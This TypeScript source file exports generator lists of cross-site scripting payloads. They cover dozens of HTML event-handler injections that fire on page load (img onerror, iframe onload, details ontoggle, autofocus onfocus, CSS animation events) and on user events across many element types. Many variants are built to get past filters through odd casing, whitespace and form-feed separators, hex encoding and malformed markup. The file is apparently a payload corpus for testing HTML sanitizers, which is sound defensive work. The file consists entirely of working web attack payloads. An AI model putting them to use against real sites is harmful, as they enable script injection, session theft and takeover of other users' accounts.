import { hex, type Payload } from './payload.ts'

/** Handlers that fire while the page loads. */
export const loadHandlers: readonly Payload[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=x onerror='${run}'>`,
  (run) => `<IMG SRC=x OnErRoR=${run}>`,
  (run) => `<img/src="x"/onerror=${run}>`,
  (run) => `<img src=x\nonerror\n=\n${run}>`,
  (run) => `<img src=x\tonerror\t=\t"${run}"\t>`,
  (run) => `<img\fsrc=x\fonerror=${run}>`,
  (run) => `<img src="x"onerror="${run}">`,
  (run) => `<img """><img src=x onerror=${run}>">`,
  (run) => `<img src=x onerror="${hex(run)}">`,
  (run) => `<img src=x onerror=${run} onerror=other()>`,
  (run) => `<img src=x alt="a>b" onerror=${run}>`,
  (run) => `<img src=x title='"' onerror=${run}>`,
  (run) => `<<img src=x onerror=${run}>`,
  (run) => `<image src=x onerror=${run}>`,
  (run) => `<img srcset=x onerror=${run}>`,
  (run) => `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=${run}>`,
  (run) => `<picture><source srcset=x><img onerror=${run}></picture>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<video><source src=x onerror=${run}></video>`,
  (run) => `<video src=x onloadstart=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<audio><source src=x onerror=${run}></audio>`,
  (run) => `<audio src=x onloadstart=${run}></audio>`,
  (run) => `<input type=image src=x onerror=${run}>`,
  (run) => `<object data=x onerror=${run}></object>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<iframe src=about:blank onload=${run}></iframe>`,
  (run) => `<style onload=${run}>p{}</style>`,
  (run) => `<link rel=stylesheet href=data:text/css, onload=${run}>`,
  (run) => `<link rel=stylesheet href=x: onerror=${run}>`,
  (run) => `<script src=data:text/javascript, onload=${run}></script>`,
  (run) => `<script src=x: onerror=${run}></script>`,
  (run) => `<body onload=${run}>`,
  (run) => `<body onpageshow=${run}>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<p><b><i><img src=x onerror=${run}></i></b></p>`,
  (run) => `<table><tr><td><img src=x onerror=${run}></table>`,
  (run) => `<figure><img src="/files/none.png" onerror="${run}"></figure>`,
  (run) => `<style>@keyframes go{}</style><p style="animation-name:go" onanimationstart="${run}">x</p>`,
  (run) => `<style>@keyframes go{}</style><p style="animation:go 1ms" onanimationend="${run}">x</p>`,
]

const elements = [
  ...['a', 'b', 'blockquote', 'code', 'del', 'div', 'em', 'figure', 'h1', 'h2', 'h3', 'li', 'mark', 'p'],
  ...['pre', 'q', 'section', 'span', 'strong', 'sub', 'table', 'ul', 'font', 'center', 'x-unknown', 'button'],
]
const acts = [
  'click',
  'mouseover',
  'pointerdown',
  'keydown',
  'focusin',
  'contextmenu',
  'copy',
  'wheel',
  'beforeinput',
  'dblclick',
]

/** Handlers of user events: each element with three events, so that every event is tried on many elements. */
export const userEventHandlers: readonly Payload[] = elements.flatMap((element, index) =>
  [0, 1, 2].map((step): Payload => {
    const act = acts[(index * 3 + step) % acts.length]
    return (run) => `<${element} tabindex=0 contenteditable on${act}="${run}">x</${element}>`
  }),
)
